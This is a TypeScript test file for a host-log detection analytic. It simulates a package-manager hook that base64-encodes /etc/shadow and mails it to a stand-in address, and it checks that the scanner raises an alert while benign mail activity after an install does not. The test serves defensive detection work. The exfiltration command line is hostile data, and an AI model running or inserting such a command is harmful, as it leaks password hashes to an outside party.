import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

/** ops installs something by sudo at a terminal; the package manager has `line` run, through a fork of which no record tells. */
async function told(act: (fork: Process, shell: Process) => void, to = 'box@example.net'): Promise<string> {
  const log = new HostLog();
  log.deliver();
  const shell = log.shell('ops');
  const who = { ...shell.who, uid: 0 };
  log.wait(MINUTE);
  const apt = shell.run('/usr/bin/sudo apt-get install page', { who }).run('/usr/bin/apt-get install page');
  log.wait(MINUTE / 2);
  apt.run('/usr/bin/dpkg --status-fd 13 --configure --pending');
  act(apt.fork(), shell);
  log.submitted('root', to, 5000);
  return (await scanLog(log)).map(({ analytic, severity }) => `${analytic} ${severity}`).join();
}
const line = (parent: Process, to = 'box@example.net'): void => {
  const words = `(echo Subject: r; cat /etc/shadow | openssl base64) | /usr/sbin/sendmail ${to}`;
  const shell = parent.run(['/bin/sh', '-c', words]);
  const group = shell.fork();
  shell.run(`/usr/sbin/sendmail ${to}`);
  group.pipeline('/usr/bin/cat /etc/shadow', '/usr/bin/openssl base64');
};

test("a hook of the package manager that packs and mails is nobody's typing", async () => {
  assert.equal(await told(fork => line(fork)), 'AN0380 medium');
});

test('a note to somebody inside, a program of a package, and what is typed afterwards', async () => {
  const note = (fork: Process): void => {
    fork
      .run(['/bin/sh', '-c', 'echo done | mail -s installed ops@example.org'])
      .run('/usr/bin/mail -s installed ops@example.org');
  };
  assert.equal(await told(note, 'ops@example.org'), '');
  const script = '/usr/bin/apt-listchanges';
  const listed = (fork: Process): void => {
    fork.run(`${script} --apt`, { by: '/usr/bin/python3' }).run('/usr/sbin/sendmail -t root@example.org');
  };
  assert.equal(await told(listed, 'root@example.org'), '');
  const typed = (_: Process, shell: Process): void => {
    shell.run('/usr/bin/mail -s installed box@example.net');
  };
  assert.equal(await told(typed), '');
});
